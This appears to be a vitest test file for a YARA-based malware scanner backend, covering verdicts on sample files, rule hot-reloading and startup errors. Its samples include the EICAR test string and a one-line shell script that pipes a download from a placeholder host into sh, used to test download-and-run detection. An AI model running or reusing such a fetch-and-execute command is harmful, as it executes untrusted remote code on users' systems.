import { EventEmitter } from "node:events";
import { readFileSync } from "node:fs";
import { fileURLToPath } from "node:url";
import { gzipSync } from "node:zlib";
import { pino } from "pino";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { ScanPool } from "../../src/isolation/scan-pool.ts";
import type { WorkerLimits } from "../../src/isolation/worker-limits.ts";
import { zipOf } from "../../src/sandbox/samples/archives.ts";
import type { ArtifactClaim, Finding } from "../../src/scanners/contract.ts";
import { resolveBackend } from "../../src/scanners/registry.ts";
import { LARGE_RULE_SET } from "../../src/scanners/yara/compile.ts";
import { microengine, withoutStalls } from "../e2e/run-process.ts";
import { RuleFolder, ruleFor } from "../fixtures/rule-folder.ts";

const RULES = fileURLToPath(new URL("../fixtures/yara", import.meta.url));
const never = new AbortController().signal;

interface LogLine {
  readonly level: number;
  readonly msg: string;
  readonly text?: string;
}
const WARN = 40;

/** The backend in real worker processes, and what its consumer's log says. */
class YaraPool implements AsyncDisposable {
  readonly lines: LogLine[] = [];
  readonly #news = new EventEmitter();
  #pool: ScanPool | undefined;

  static async open(rules: string, limits: Partial<WorkerLimits> = {}): Promise<YaraPool> {
    const yara = new YaraPool();
    const write = (line: string): void => {
      yara.lines.push(JSON.parse(line) as LogLine);
      yara.#news.emit("line");
    };
    const log = pino({ level: "info" }, { write });
    yara.#pool = await ScanPool.open(resolveBackend("yara", { settings: { yara: { rules } } }), {
      size: 1,
      log,
      limits,
    });
    return yara;
  }

  /** Waits for a sentence in the log, said after the first `from` lines. */
  async told(words: RegExp, from = 0): Promise<LogLine> {
    for (;;) {
      const line = this.lines.slice(from).find(({ text }) => words.test(text ?? ""));
      if (line !== undefined) return line;
      await new Promise((resolve) => this.#news.once("line", resolve));
    }
  }

  async scan(bytes: Uint8Array, claim: ArtifactClaim = { raw: {} }): Promise<Finding> {
    const request = {
      kind: "file" as const,
      bytes,
      sha256: "",
      types: [],
      claim,
      deadline: Date.now() + 20_000,
    };
    const outcome = await this.#pool!.scan(request, never);
    if (outcome.kind !== "finding") throw new Error(JSON.stringify(outcome));
    return outcome.finding as Finding;
  }

  async rulesIn(text: string): Promise<unknown> {
    return (await this.scan(Buffer.from(text))).metadata?.yara_rules ?? [];
  }

  async [Symbol.asyncDispose](): Promise<void> {
    await this.#pool?.[Symbol.asyncDispose]();
  }
}

describe.concurrent("the yara backend over real files", () => {
  const EICAR = `X5O!P%@AP[4\\PZX54(P^)7CC)7}${"$EICAR-STANDARD"}-ANTIVIRUS-TEST-FILE!$H+H*`;
  const program = readFileSync("/usr/bin/bash");
  const zip = zipOf([{ name: "install.sh", content: Buffer.from("echo harmless\n") }]);
  const packed = Buffer.concat([program.subarray(0, 64), gzipSync(program.subarray(0, 500_000))]);

  let yara: YaraPool;
  beforeAll(async () => {
    yara = await YaraPool.open(RULES);
  });
  afterAll(() => yara[Symbol.asyncDispose]());

  it("says of each what the rules say, and unknown of what they do not know", async () => {
    const said = async (bytes: Uint8Array, filename?: string) => {
      const finding = await yara.scan(bytes, { raw: {}, ...(filename === undefined ? {} : { filename }) });
      return [finding.verdict, finding.confidence, finding.family, finding.metadata?.yara_rules];
    };
    const nothing = ["unknown", undefined, undefined, undefined];
    expect(await said(Buffer.from(`before ${EICAR} after`))).toEqual([
      ...["malicious", 1, "Eicar Test File"],
      ["Eicar_Test_File"],
    ]);
    expect(await said(program)).toEqual(["benign", 0.6, undefined, ["Gnu_Program"]]);
    expect(await said(Buffer.from("#!/bin/sh\ncurl -s http://x.example/a | sh\n"))).toEqual([
      ...["malicious", 0.8, "Script.DownloadAndRun"],
      ["Download_And_Run"],
    ]);
    expect(await said(zip)).toEqual(["suspicious", 0.3, "Zipped.Script", ["Download_And_Run"]]);
    expect(await said(packed)).toEqual(["suspicious", 0.6, "Packed_Program", ["Packed_Program"]]);
    expect(await said(readFileSync(process.execPath).subarray(0, 3_000_000))).toEqual(nothing);
    expect(await said(readFileSync(fileURLToPath(import.meta.url)))).toEqual(nothing);
    for (const size of [0, 1, 63]) expect(await said(program.subarray(0, size))).toEqual(nothing);
  });

  it("scans what is larger than the channel takes, to its last byte", async () => {
    const large = Buffer.concat([Buffer.alloc(5_000_000, "padding "), Buffer.from(EICAR)]);
    expect(await yara.scan(large)).toMatchObject({ verdict: "malicious", family: "Eicar Test File" });
  });

  it("lets a single file include what lies beside it", async () => {
    using folder = new RuleFolder({
      "main.yar": 'include "lib/part.yar"',
      "lib/part.yar": ruleFor("part", "evil"),
    });
    await using including = await YaraPool.open(folder.at("main.yar"));
    expect(await including.rulesIn("evil")).toEqual(["part"]);
  });

  it("says which engine runs how many rules", async () => {
    expect((await yara.told(/YARA rules/)).text).toMatch(
      /^9 YARA rules in 2 namespaces, .* by YARA-X .*WebAssembly/,
    );
  });

  it("runs a large set natively where that can be, and otherwise says why not", async () => {
    const rules = Array.from({ length: LARGE_RULE_SET }, (_, at) => ruleFor(`r${at}`, `needle ${at}.`));
    using folder = new RuleFolder({ "a.yar": rules.join("") });
    await using large = await YaraPool.open(folder.path);
    expect((await large.told(/YARA rules/)).text).toMatch(
      /by YARA-X .*\(native\)\.$|The native engine does not run/,
    );
    expect(await large.rulesIn("needle 7. needle 11.")).toEqual(["r7", "r11"]);
  });

  it("runs a large set that the native engine does not take in WebAssembly", async () => {
    const rules = Array.from({ length: LARGE_RULE_SET }, (_, at) => ruleFor(`r${at}`, `needle ${at}.`));
    using folder = new RuleFolder({ "a.yar": `import "dex" ${rules.join("")}` });
    await using large = await YaraPool.open(folder.path);
    expect((await large.told(/YARA rules/)).text).toMatch(
      /WebAssembly.* The native engine does not run them: .+/,
    );
    expect(await large.rulesIn("needle 7.")).toEqual(["r7"]);
  });
});

describe.concurrent("rules that change while the yara backend runs", () => {
  it("are taken up: those that are written, those that come and those that go", async () => {
    using folder = new RuleFolder({ "a.yar": ruleFor("old", "evil") });
    await using yara = await YaraPool.open(folder.path);
    const version = async () => (await yara.scan(Buffer.from("x"))).metadata?.scanner;
    const before = await version();
    folder.write("a.yar", ruleFor("written", "evil"));
    folder.write("sub/b.yar", ruleFor("added", "evil"));
    await yara.told(/have changed: 2 YARA rules/);
    expect(await yara.rulesIn("evil")).toEqual(["written", "added"]);
    expect(await version()).not.toEqual(before);
    const from = yara.lines.length;
    folder.remove("a.yar");
    await yara.told(/have changed: 1 YARA rules/, from);
    expect(await yara.rulesIn("evil")).toEqual(["added"]);
  });

  it("are left alone with a warning while they do not compile, and taken up when they do", async () => {
    using folder = new RuleFolder({ "a.yar": ruleFor("old", "evil") });
    await using yara = await YaraPool.open(folder.path);
    folder.write("a.yar", "rule broken {\n condition: $x }");
    const warning = await yara.told(/a\.yar:2: .*The rules of before stay in use/);
    expect(warning).toMatchObject({ level: WARN, msg: "scanner.told" });
    expect(await yara.rulesIn("evil")).toEqual(["old"]);
    folder.remove("a.yar");
    await yara.told(/There are no YARA rules in .*The rules of before stay in use/);
    expect(await yara.rulesIn("evil")).toEqual(["old"]);
    folder.write("a.yar", ruleFor("mended", "evil"));
    await yara.told(/have changed/);
    expect(await yara.rulesIn("evil")).toEqual(["mended"]);
  });

  it("are handed to the next process when that finds none that compile", async () => {
    using folder = new RuleFolder({ "a.yar": ruleFor("old", "evil") });
    await using yara = await YaraPool.open(folder.path, { maxScans: 1 });
    folder.write("a.yar", ruleFor("newer", "evil"));
    await yara.told(/have changed/);
    folder.write("a.yar", "rule broken");
    await yara.told(/stay in use/);
    for (let processes = 0; processes < 3; processes++) expect(await yara.rulesIn("evil")).toEqual(["newer"]);
    const from = yara.lines.length;
    folder.write("a.yar", ruleFor("mended", "evil"));
    await yara.told(/1 YARA rules/, from);
    expect(await yara.rulesIn("evil")).toEqual(["mended"]);
  });
});

it("the yara backend says which rules may take long to compile, before it does", async () => {
  using folder = new RuleFolder({ "big.yar": `// ${"long ".repeat(250_000)}\n${ruleFor("a", "1")}` });
  await using yara = await YaraPool.open(folder.path);
  const told = yara.lines.flatMap(({ text }) => text ?? []);
  expect(told).toEqual([
    expect.stringMatching(/^Compiling the YARA rules of .*big\.yar, 1\.3 MB: that may take minutes\.$/),
    expect.stringMatching(/^1 YARA rules in 1 namespaces/),
  ]);
});

describe.concurrent("a start with rules that cannot be used", () => {
  const start = (...flags: string[]) =>
    microengine(["consumer", "--backend", "yara", "--wait", "0", "--redis-addr", "127.0.0.1:1", ...flags]);

  it.each<[string, Record<string, string>, RegExp]>([
    [
      "do not compile",
      { "ok.yar": ruleFor("a", "1"), "bad/b.yar": "\nrule b {\n  condition:\n    $x\n}" },
      /bad\/b\.yar:4: unknown pattern `\$x`: this pattern is not declared/,
    ],
    ["are not there", { "a.txt": "" }, /There are no YARA rules in/],
  ])("says in one line that they %s, and ends with 2", async (_, files, words) => {
    using folder = new RuleFolder(files);
    const { code, stdout, stderr } = await start("--yara-rules", folder.path);
    expect(withoutStalls(stderr)).toMatch(/^microengine: [^\n]+\n$/);
    expect(stderr).toMatch(words);
    expect({ code, stdout }).toEqual({ code: 2, stdout: "" });
  });

  it("says which setting names them when none does", async () => {
    const { code, stderr } = await start();
    expect(withoutStalls(stderr)).toMatch(
      /^microengine: The yara backend has no rules\. [^\n]*--yara-rules \(variable RULES_DIR\)[^\n]*\n$/,
    );
    expect(code).toBe(2);
  });
});
